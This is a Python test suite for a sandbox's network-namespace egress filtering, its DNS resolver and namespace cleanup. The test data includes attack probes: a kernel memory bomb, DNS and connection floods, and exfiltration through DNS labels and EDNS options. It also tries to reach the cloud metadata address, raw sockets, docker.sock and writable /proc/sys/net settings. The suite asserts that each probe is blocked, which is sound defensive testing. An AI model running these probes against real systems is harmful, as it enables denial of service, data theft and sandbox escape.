"""Attacks by way of a box's own network namespace: on its rules, on our sockets in it, on its resolver, on the host.

Some are made from real boxes of both gVisors of Debian; others by whoever sits in the namespace without a box and may
do more there than any code.
"""

import asyncio
import ctypes
import gc
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from collections.abc import AsyncIterator
from contextlib import ExitStack, asynccontextmanager, closing, suppress
from ipaddress import ip_address
from pathlib import Path

import pytest

from sandbox.egress_account import EgressAccount
from sandbox.network_namespace import NetworkNamespace
from sandbox.outcome import Outcome
from sandbox.permitted_names import PermittedNames
from sandbox.runner import Runner
from sandbox.transparent_egress import TransparentEgress
from tests.sandbox.conftest import PATIENCE, Place, eventually
from tests.sandbox.dns_client import addresses, question, verdict
from tests.sandbox.egress_boxes import in_namespaces, networked, networked_request, words_of
from tests.sandbox.egress_client import on_both_loops, rules_of
from tests.sandbox.egress_world import OTHER_PUBLIC, PUBLIC, World, open_descriptors, served, web
from tests.sandbox.gvisor_versions import GVISOR_OF_SUITE
from tests.sandbox.namespaces import boxed_in, inside, needs_namespaces

pytestmark = needs_namespaces
GET = b"GET / HTTP/1.0\r\n\r\n"
_HTTPS_RECORD, _ANY_RECORD, _PTR_RECORD = 65, 255, 12


@asynccontextmanager
async def web_world() -> AsyncIterator[World]:
    """`web.example:80` with a page."""
    made = World()
    async with served(web({"/": ("200 OK", b"hello")})) as door:
        made.place("web.example", door)
        yield made


@asynccontextmanager
async def longest_pause() -> AsyncIterator[list[float]]:
    """How long the event loop was kept from everybody else, at most, in seconds."""
    longest = [0.0]

    async def beat() -> None:
        while True:
            before = time.monotonic()
            await asyncio.sleep(0.01)
            longest[0] = max(longest[0], time.monotonic() - before - 0.01)

    beating = asyncio.create_task(beat())
    try:
        yield longest
    finally:
        beating.cancel()


# Memory of the kernel


BUFFERS = """
import socket
listener = socket.create_server(("127.0.0.1", 0), backlog=1024)
ends, held = [], 0
try:
    for _ in range(480):
        end = socket.create_connection(listener.getsockname())
        ends += [end, listener.accept()[0]]
        for one in ends[-2:]:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 << 20)
            one.setblocking(False)
            try:
                while True:
                    held += one.send(bytes(1 << 16))
            except BlockingIOError:
                pass
except OSError as error:
    pass
print(held >> 20)
"""


@pytest.mark.gvisor
@pytest.mark.parametrize("suite", GVISOR_OF_SUITE)
async def test_memory_bomb_in_buffers_of_the_kernels_sockets_is_bounded(place: Place, suite: str) -> None:
    result = await in_namespaces(place, World(), suite).run(BUFFERS, max_runtime_seconds=60 * PATIENCE)

    assert (result.outcome, int(result.output) <= 64) == (Outcome.OK, True), result.output


# Floods


@on_both_loops
async def test_pipelined_questions_do_not_hold_up_the_loop() -> None:
    asked = question("evil.example")
    many = (len(asked).to_bytes(2, "big") + asked) * 20_000

    def flood() -> None:
        with ExitStack() as opened:
            clients = [
                opened.enter_context(socket.create_connection(("8.8.8.8", 53), timeout=5 * PATIENCE)) for _ in range(8)
            ]
            for client in clients:
                client.setblocking(False)  # noqa: FBT003 -- the standard library's
                with suppress(BlockingIOError):
                    client.sendall(many)
            time.sleep(1)

    async with web_world() as world, boxed_in(world, "web.example") as insider, longest_pause() as longest:
        await inside(insider.egress.namespace, flood)
        answered = insider.egress.account.summary.decisions[0].times

        assert longest[0] < 0.2 * PATIENCE
        assert answered < 1_000


@on_both_loops
async def test_flood_of_connections_to_our_own_port_is_held_back() -> None:
    async with web_world() as world, boxed_in(world, "public") as insider:
        own = insider.egress.namespace.connections[0].getsockname()

        def flood() -> None:
            for _ in range(5_000):
                with socket.socket() as client:
                    client.setblocking(False)  # noqa: FBT003 -- the standard library's
                    with suppress(BlockingIOError):
                        client.connect(own)

        begun = time.monotonic()
        await inside(insider.egress.namespace, flood)
        await asyncio.sleep(0.2)
        most = 1_100 + 250 * (time.monotonic() - begun)
        heard = sum(decision.times for decision in insider.egress.account.summary.decisions)

        assert heard < most


@on_both_loops
async def test_flood_of_datagrams_to_the_resolver_is_held_back() -> None:
    asked = question("evil.example")

    def flood() -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sending:
            for _ in range(20_000):
                with suppress(PermissionError):
                    sending.sendto(asked, ("127.0.0.1", 53))

    async with web_world() as world, boxed_in(world, "web.example") as insider, longest_pause() as longest:
        begun = time.monotonic()
        await inside(insider.egress.namespace, flood)
        await asyncio.sleep(0.2)
        most = 2_100 + 600 * (time.monotonic() - begun)

        assert insider.egress.account.summary.decisions[0].times < most
        assert longest[0] < 0.2 * PATIENCE


async def test_namespace_full_of_tracked_connections_harms_no_other() -> None:
    one, other = await NetworkNamespace.made(), await NetworkNamespace.made()

    def flood() -> int:
        with ExitStack() as opened:
            for number in range(3_000):
                client = opened.enter_context(socket.socket())
                client.setblocking(False)  # noqa: FBT003 -- the standard library's
                with suppress(OSError):
                    client.connect((str(f"93.184.{number >> 8}.{number & 255}"), 80))
            return tracked()

    def tracked() -> int:
        return int(Path("/proc/sys/net/netfilter/nf_conntrack_count").read_text())

    begun = time.monotonic()
    with closing(one), closing(other):
        counted = await inside(one, flood)
        assert counted < 1_100 + 250 * (time.monotonic() - begun)
        assert await inside(other, tracked) < 20


async def test_connection_that_is_no_longer_read_holds_little_of_the_kernels_memory() -> None:
    namespace = await NetworkNamespace.made()

    def room() -> int:
        with socket.create_connection((PUBLIC, 7), timeout=5) as client, namespace.connections[0].accept()[0] as ours:
            client.setblocking(False)  # noqa: FBT003 -- the standard library's
            for _ in range(2_000):  # the kernel gives more room to whom it sees read
                with suppress(BlockingIOError):
                    client.send(bytes(1 << 18))
                ours.recv(1 << 20)
            return sum(ours.getsockopt(socket.SOL_SOCKET, one) for one in (socket.SO_RCVBUF, socket.SO_SNDBUF))

    with closing(namespace):
        assert await inside(namespace, room) <= 1 << 19


# Names


@pytest.mark.parametrize("kind", [_HTTPS_RECORD, _ANY_RECORD, _PTR_RECORD, 16, 15, 5, 6, 41, 252, 0, 65_535])
async def test_record_of_another_kind_tells_nothing_and_is_asked_of_nobody(kind: int) -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        for name, expected in (("web.example", 0), ("c2VjcmV0.evil.example", 3)):
            reply = await insider.datagram("8.8.8.8", 53, question(name, kind))
            assert (verdict(reply), addresses(reply)) == (expected, [])

        assert world.asked == []


def _with_edns(message: bytes, payload: bytes) -> bytes:
    """A question with an OPT record that carries data. Source: RFC 6891 section 6.1.2."""
    option = struct.pack("!HH", 65_001, len(payload)) + payload
    return message[:10] + b"\0\1" + message[12:] + b"\0" + struct.pack("!HHIH", 41, 4096, 0, len(option)) + option


MALFORMED = {
    "pointer-to-itself": question("")[:12] + b"\xc0\x0c" + b"\0\1\0\1",
    "pointer-past-the-end": question("")[:12] + b"\xff\xff" + b"\0\1\0\1",
    "two-questions": question("web.example")[:4] + b"\0\2" + question("web.example")[6:] + question("a.example")[12:],
    "65535-questions": question("web.example")[:4] + b"\xff\xff" + question("web.example")[6:],
    "no-question": question("web.example")[:4] + bytes(8),
    "answers-in-a-question": question("web.example")[:6] + b"\0\1" + question("web.example")[8:],
    "label-past-the-end": question("")[:12] + b"\x3fab",
    "label-of-64-bytes": question("")[:12] + b"\x40" + b"a" * 64 + b"\0\0\1\0\1",
    "endless-name": question("")[:12] + b"\x01a" * 1_000 + b"\0\0\1\0\1",
    "chaos-class": question("version.bind", 16, klass=3),
}


@pytest.mark.parametrize("message", MALFORMED.values(), ids=MALFORMED)
async def test_malformed_question_reaches_nobody(message: bytes) -> None:
    async with web_world() as world, boxed_in(world, "public") as insider:
        assert verdict(await insider.datagram("8.8.8.8", 53, message)) == 1
        assert world.asked == []
        assert addresses(await insider.datagram("8.8.8.8", 53, question("web.example"))) == [PUBLIC]


@pytest.mark.parametrize("flags", [0x2800, 0x2000, 0x1000, 0x7800])
async def test_update_or_notify_is_not_implemented(flags: int) -> None:
    async with web_world() as world, boxed_in(world, "public") as insider:
        assert verdict(await insider.datagram("8.8.8.8", 53, question("web.example", flags=flags))) == 4
        assert world.asked == []


async def test_data_beside_a_permitted_question_goes_nowhere() -> None:
    async with web_world() as world, boxed_in(world, "web.example") as insider:
        asked = _with_edns(question("web.example"), b"stolen" * 100)

        assert addresses(await insider.datagram("9.9.9.9", 53, asked)) == [PUBLIC]
        assert world.asked == ["web.example"]


async def test_datagram_in_fragments_to_the_resolver_goes_nowhere() -> None:
    async with web_world() as world, boxed_in(world, "public") as insider:
        asked = question("web.example") + bytes(60_000)

        assert addresses(await insider.datagram("9.9.9.9", 53, asked)) == [PUBLIC]
        with pytest.raises(PermissionError):
            await insider.datagram("9.9.9.9", 5353, asked)


async def test_name_with_thousands_of_addresses_takes_no_more_memory_than_its_answer() -> None:
    world = World()
    everything = tuple(f"93.{number >> 8}.{number & 255}.1" for number in range(4_000))
    world.names["many.example"] = [everything]
    names = PermittedNames(world, EgressAccount())
    names.open(rules_of("public"))

    reply = await names.reply(question("many.example"))

    answered = addresses(reply)
    assert answered == list(everything[: len(answered)])
    assert len(answered) > 20
    assert sum(bool(names.names_of(address)) for address in map(ip_address, everything)) < 100
    await names.close()


async def test_thousands_of_names_for_one_address_are_not_all_remembered() -> None:
    world = World()
    names = PermittedNames(world, EgressAccount())
    names.open(rules_of("*.attacker.example", "web.example:80"))
    for number in range(1_000):
        world.names[f"n{number}.attacker.example"] = [(PUBLIC,)]
        await names.reply(question(f"n{number}.attacker.example"))

    remembered = [name for name, _ in names.names_of(ip_address(PUBLIC))]

    assert remembered[0] == "n999.attacker.example"
    assert len(remembered) < 100
    await names.close()


async def test_name_of_the_attacker_at_anothers_address_opens_no_port_that_neither_has() -> None:
    async with web_world() as world:
        world.names["mine.attacker.example"] = [(PUBLIC,)]
        for port in (22, 443):
            world.doors[PUBLIC, port] = world.doors[PUBLIC, 80]
        async with boxed_in(world, "web.example:80", "*.attacker.example:443") as insider:
            await insider.datagram("127.0.0.1", 53, question("web.example"))
            await insider.datagram("127.0.0.1", 53, question("mine.attacker.example"))

            with pytest.raises(ConnectionResetError):
                await insider.talk(PUBLIC, 22, GET)
            assert world.reached == []
            assert (await insider.talk(PUBLIC, 443, GET)).endswith(b"hello")
            assert (await insider.talk(PUBLIC, 80, GET)).endswith(b"hello")
            assert insider.words == [
                "mine.attacker.example:22 refused: not in the allow-list, test",
                "mine.attacker.example:443 reached",
                "web.example:80 reached",
            ]


async def test_name_that_leads_to_a_private_address_and_a_public_one_opens_the_public_one_alone() -> None:
    async with web_world() as world:
        world.names["web.example"] = [("10.0.0.1", PUBLIC, "169.254.169.254", "127.0.0.1")]
        async with boxed_in(world, "web.example") as insider:
            reply = await insider.datagram("127.0.0.1", 53, question("web.example"))

            assert addresses(reply) == [PUBLIC]
            for closed in ("10.0.0.1", "169.254.169.254"):
                with pytest.raises(ConnectionResetError):
                    await insider.talk(closed, 80, GET)
            assert world.reached == []


async def test_host_header_of_a_denied_name_reaches_no_more_than_its_permitted_neighbours_address() -> None:
    """What is said to a permitted address is not looked at but for the name that TLS asks for: docs say so."""
    heads: list[bytes] = []
    world = World()
    async with served(web({"/": ("200 OK", b"hello")}, heads)) as door, boxed_in(world, "web.example:80") as insider:
        world.place("web.example", door)
        world.names["denied.example"] = [(PUBLIC, OTHER_PUBLIC)]
        world.doors[OTHER_PUBLIC, 80] = door
        await insider.datagram("127.0.0.1", 53, question("web.example"))

        await insider.talk(PUBLIC, 80, b"GET / HTTP/1.0\r\nHost: denied.example\r\n\r\n")
        assert verdict(await insider.datagram("127.0.0.1", 53, question("denied.example"))) == 3
        with pytest.raises(ConnectionResetError):
            await insider.talk(OTHER_PUBLIC, 80, GET)
        assert world.reached == [(PUBLIC, 80)]
        assert insider.words[0] == "web.example:80 reached"


# What is left


@on_both_loops
@pytest.mark.parametrize("port", [80, 53])
async def test_connection_that_comes_as_all_is_closed_is_closed_too(port: int) -> None:
    """What is to attend to it is cancelled before it has begun; a descriptor left open holds the namespace, too."""
    async with web_world() as world:
        await _closed_as_one_comes(world, port)


async def _closed_as_one_comes(world: World, port: int) -> None:
    egress = await TransparentEgress.listening(world)
    egress.open(rules_of("public"))
    client = await inside(egress.namespace, lambda: _begun_connection((PUBLIC, port)))
    gc.disable()
    try:
        while True:
            await asyncio.sleep(0)
            if any(_attends(task) for task in asyncio.all_tasks()):
                break

        await egress.close()

        client.settimeout(2 * PATIENCE)
        with suppress(ConnectionResetError):
            assert await asyncio.to_thread(client.recv, 1) == b""
    finally:
        gc.enable()
        client.close()


def _attends(task: asyncio.Task[object]) -> bool:
    return getattr(task.get_coro(), "__name__", "") in {"_served", "_connection_answered"}


def _begun_connection(address: tuple[str, int]) -> socket.socket:
    client = socket.socket()
    client.setblocking(False)  # noqa: FBT003 -- the standard library's
    with suppress(BlockingIOError):
        client.connect(address)
    return client


def held_namespaces() -> set[str]:
    """The network namespaces that any process of this host is in or holds."""
    found = set()
    for link in (*Path("/proc").glob("[0-9]*/ns/net"), *Path("/proc").glob("[0-9]*/fd/*")):
        with suppress(OSError):
            found.add(str(link.readlink()))
    return {name for name in found if name.startswith("net:[")}


async def test_200_namespaces_leave_none() -> None:
    before = open_descriptors()

    for _ in range(200):
        egress = await TransparentEgress.listening(World())
        await egress.close()

    assert open_descriptors() <= before


WAITS = """
import time
print("begun", flush=True)
time.sleep(60)
"""


@pytest.mark.gvisor
async def test_cancelled_run_leaves_no_namespace(place: Place) -> None:
    before = open_descriptors()
    async with web_world() as world, Runner(in_namespaces(place, world).place.equipment) as runner:
        for seconds in (0.0, 0.02, 0.1, 0.3, 1.0):
            running = asyncio.create_task(runner.run(networked_request(WAITS, limits=networked())))
            await asyncio.sleep(seconds)
            running.cancel()
            with pytest.raises(asyncio.CancelledError):
                await running

    await eventually(lambda: open_descriptors() <= before + 1)  # an event loop's own


SERVER = """
import asyncio, sys
from pathlib import Path
from sandbox.network_namespace import NetworkNamespace
from sandbox.transparent_egress import TransparentEgress
async def main():
    egress = await TransparentEgress.listening()
    box = await asyncio.create_subprocess_exec(
        "setpriv", "--pdeathsig", "KILL", "nsenter", "--net=" + egress.namespace.path, "sleep", "60")
    while not egress.namespace.is_entered_by([box.pid]):
        await asyncio.sleep(0.01)
    print(Path(egress.namespace.path).readlink(), flush=True)
    await asyncio.sleep(60)
asyncio.run(main())
"""


async def test_server_that_is_killed_leaves_no_namespace() -> None:
    server = await asyncio.create_subprocess_exec(
        sys.executable,
        "-c",
        SERVER,
        stdout=asyncio.subprocess.PIPE,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )
    assert server.stdout is not None
    name = (await server.stdout.readline()).decode().strip()
    assert name in held_namespaces()

    server.kill()
    await server.wait()

    await eventually(lambda: name not in held_namespaces())


# Hosts that have less


WITHOUT_IPV6 = """
import asyncio, ctypes, socket, struct
AUDIT_X86_64, AUDIT_ARM64 = 0xC000003E, 0xC00000B7
LOAD, EQUAL, RETURN = 0x20, 0x15, 0x06
def instruction(code, value, yes=0, no=0): return struct.pack("HBBI", code, yes, no, value)
number = {"x86_64": 41, "aarch64": 198}[__import__("platform").machine()]
filters = b"".join((
    instruction(LOAD, 0), instruction(EQUAL, number, 0, 3),  # socket(2)
    instruction(LOAD, 16), instruction(EQUAL, socket.AF_INET6, 0, 1),
    instruction(RETURN, 0x00050000 | 97), instruction(RETURN, 0x7FFF0000)))
held = ctypes.create_string_buffer(filters)
program = struct.pack("HxxxxxxQ", 6, ctypes.addressof(held))
assert ctypes.CDLL(None, use_errno=True).prctl(22, 2, ctypes.c_char_p(program), 0, 0) == 0
from sandbox.network_namespace import NetworkNamespace
namespace = asyncio.run(NetworkNamespace.made())
print([one.family.name for one in namespace.connections])
"""


def test_host_without_ipv6_has_namespaces_without_it() -> None:
    told = subprocess.run(
        [sys.executable, "-c", WITHOUT_IPV6],
        capture_output=True,
        text=True,
        check=False,
        env={**os.environ, "PYTHONPATH": os.pathsep.join(sys.path)},
    )

    assert (told.stdout, told.stderr) == ("['AF_INET']\n", "")


# From real boxes


SOCKETS = """
import socket
def tried(action):
    try:
        return str(action())
    except OSError as error:
        return "closed"
def sent(family, kind, protocol, address, data=bytes(60), option=None):
    def act():
        with socket.socket(family, kind, protocol) as one:
            if option:
                one.setsockopt(*option)
            one.settimeout(1)
            return one.sendto(data, address)
    return tried(act)
four, six, raw, gram, packet = socket.AF_INET, socket.AF_INET6, socket.SOCK_RAW, socket.SOCK_DGRAM, socket.AF_PACKET
for protocol in (1, 2, 6, 17, 47, 132, 255):
    print("raw", protocol, sent(four, raw, protocol, ("PUBLIC", 0)))
for protocol in (58, 17, 255):
    print("raw6", protocol, sent(six, raw, protocol, ("2606:2800::1", 0)))
print("ping", sent(four, gram, 1, ("PUBLIC", 0), bytes([8, 0, 247, 255, 0, 0, 0, 0])))
print("ping6", sent(six, gram, 58, ("2606:2800::1", 0), bytes([128, 0, 0, 0, 0, 0, 0, 0])))
for kind in (raw, gram):
    print("packet", tried(lambda: socket.socket(packet, kind, 0x0300).sendto(bytes(60), ("lo", 0x0800))))
kinds = ((four, 1, 132), (four, 5, 132), (four, 2, 136), (four, 6, 33), (four, 1, 262), (40, 1, 0), (38, 5, 0),
         (44, 3, 0), (21, 5, 0), (15, 3, 2), (16, 3, 6), (16, 3, 12), (16, 3, 16))
for family, kind, protocol in kinds:
    print("kind", family, kind, protocol, tried(lambda: socket.socket(family, kind, protocol).close() or "made"))
broadcast = (socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
for address in ("PUBLIC", "224.0.0.251", "239.255.255.250", "255.255.255.255", "169.254.169.254", "10.0.0.1"):
    for port in (67, 123, 443, 5353):
        print("udp", address, port, sent(four, gram, 0, (address, port), option=broadcast))
for address in ("2606:2800::1", "ff02::1%1", "ff05::2", "::ffff:8.8.8.8", "fd00:ec2::254", "64:ff9b::a9fe:a9fe",
                "fe80::1%1"):
    print("udp6", address, sent(six, gram, 0, (address, 123)))
print("big", sent(four, gram, 0, ("PUBLIC", 123), bytes(60000)))
source_route = bytes([131, 7, 4, 10, 0, 0, 1, 0])
for level, option, value in ((0, 19, 1), (0, 15, 1), (0, 4, source_route), (1, 25, b"lo\\0"), (1, 36, 7)):
    with socket.socket() as one:
        tried(lambda: one.setsockopt(level, option, value))
        one.settimeout(5)
        print("tcp", level, option, tried(lambda: one.connect(("OTHER", 80)) or one.recv(1)))
    print("udp", level, option, sent(four, gram, 0, ("OTHER", 123), option=(0, 15, 1)))
for address in ("8.8.8.8", "169.254.169.254", "PUBLIC"):
    print("bind", tried(lambda: socket.create_server((address, 4444))))
for path in ("ABSTRACT", "\\0runsc-sandbox", "/var/run/docker.sock"):
    print("unix", tried(lambda: socket.socket(socket.AF_UNIX).connect(path)))
for name in ("tcp_rmem", "ip_forward", "ip_unprivileged_port_start"):
    print("write", tried(lambda: open("/proc/sys/net/ipv4/" + name, "w").write("1")))
"""


@pytest.mark.gvisor
@pytest.mark.parametrize("suite", GVISOR_OF_SUITE)
async def test_every_other_kind_of_socket_is_closed(place: Place, suite: str) -> None:
    async with web_world() as world:
        code = SOCKETS.replace("PUBLIC", PUBLIC).replace("OTHER", OTHER_PUBLIC).replace("ABSTRACT", "\\0service")
        result = await in_namespaces(place, world, suite).run(code, "web.example")

        opened = [line for line in result.output.splitlines() if not line.endswith(" closed")]
        assert (opened, result.outcome) == ([], Outcome.OK)
        assert len(result.output.splitlines()) == 78
        assert (world.asked, world.reached) == ([], [])
        assert set(words_of(result)) == {f"{OTHER_PUBLIC}:80 refused: not in the allow-list, test"}


OWN_SERVICES = """
import socket, threading
def served(family, address):
    server = socket.create_server((address, 0), family=family)
    threading.Thread(target=lambda: server.accept()[0].sendall(b"own"), daemon=True).start()
    return server.getsockname()[1]
four, six = socket.AF_INET, socket.AF_INET6
for family, bound, reached in ((four, "127.0.0.1", "127.0.0.1"), (four, "0.0.0.0", "192.0.0.8"), (six, "::1", "::1"),
                               (four, "", "localhost"), (four, "127.0.0.9", "127.0.0.9")):
    with socket.create_connection((reached, served(family, bound)), timeout=10) as client:
        print(client.recv(3))
with socket.socket(four, socket.SOCK_DGRAM) as one, socket.socket(four, socket.SOCK_DGRAM) as other:
    one.bind(("127.0.0.1", 0))
    other.sendto(b"own", one.getsockname())
    print(one.recv(3))
"""


@pytest.mark.gvisor
@pytest.mark.parametrize("suite", GVISOR_OF_SUITE)
async def test_own_services_are_reached_in_the_box(place: Place, suite: str) -> None:
    async with web_world() as world:
        result = await in_namespaces(place, world, suite).run(OWN_SERVICES, "web.example")

    assert result.output == "b'own'\n" * 6
    assert words_of(result) == []


SERVES_AND_SEEKS = """
import socket, time
servers = []
for port in range(4440, 4450):
    try:
        servers.append(socket.create_server(("", port)))
    except OSError as error:
        print(error)
time.sleep(3)
found = []
for server in servers:
    server.setblocking(False)
    try:
        found.append(server.accept())
    except BlockingIOError:
        pass
print(len(servers), found)
"""
SEEKS = """
import socket
for address in ("192.0.0.8", "127.0.0.1", "192.0.0.9", "10.0.0.1"):
    for port in range(4440, 4450):
        try:
            with socket.create_connection((address, port), timeout=5) as client:
                client.settimeout(1)
                if client.recv(1): print("reached")
        except OSError:
            pass
"""


@pytest.mark.gvisor
async def test_box_reaches_no_other_box(place: Place) -> None:
    async with web_world() as world:
        boxes = in_namespaces(place, world)
        serving = asyncio.create_task(boxes.run(SERVES_AND_SEEKS, "web.example", max_concurrent_runs=4))
        seeking = [asyncio.create_task(boxes.run(SEEKS, "web.example", max_concurrent_runs=4)) for _ in range(1)]

        assert (await serving).output == "10 []\n"
        assert [(await one).output for one in seeking] == [""]


@pytest.mark.gvisor
@pytest.mark.parametrize("suite", GVISOR_OF_SUITE)
async def test_abstract_sockets_in_the_namespace_are_closed_to_the_box(place: Place, suite: str) -> None:
    """The control socket of an old gVisor is one, though in the namespace of whoever starts it."""
    code = """
import os, socket, time
time.sleep(1)
for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
    try:
        socket.socket(socket.AF_UNIX, kind).connect("\\0service")
        print("reached")
    except OSError:
        print("closed")
print("service" in open("/proc/net/unix").read())
"""
    async with web_world() as world, Runner(in_namespaces(place, world, suite).place.equipment) as runner:
        running = asyncio.create_task(runner.run(networked_request(code, limits=networked())))
        inner = await _namespace_of_box(place)
        listening = await asyncio.to_thread(_listening_in, inner, "\0service")
        with listening:
            result = await running

    assert result.output == "closed\nclosed\nclosed\nFalse\n"


async def _namespace_of_box(place: Place) -> Path:
    """The namespace that holds the box's interpreter: that of the process whose network has our resolver in it."""
    found: list[Path] = []

    def seek() -> bool:
        for number in place.processes():
            with suppress(OSError):
                if "192.0.0.8" in Path(f"/proc/{number}/net/fib_trie").read_text():
                    found.append(Path(f"/proc/{number}/ns/net"))
        return bool(found)

    await eventually(seek, 10.0)
    return found[0]


def _listening_in(namespace: Path, name: str) -> socket.socket:
    done: list[socket.socket] = []

    def listen() -> None:
        with namespace.open("rb") as opened:
            assert ctypes.CDLL(None).setns(opened.fileno(), 0) == 0
        one = socket.socket(socket.AF_UNIX)
        one.bind(name)
        one.listen()
        done.append(one)

    thread = threading.Thread(target=listen)
    thread.start()
    thread.join()
    return done[0]
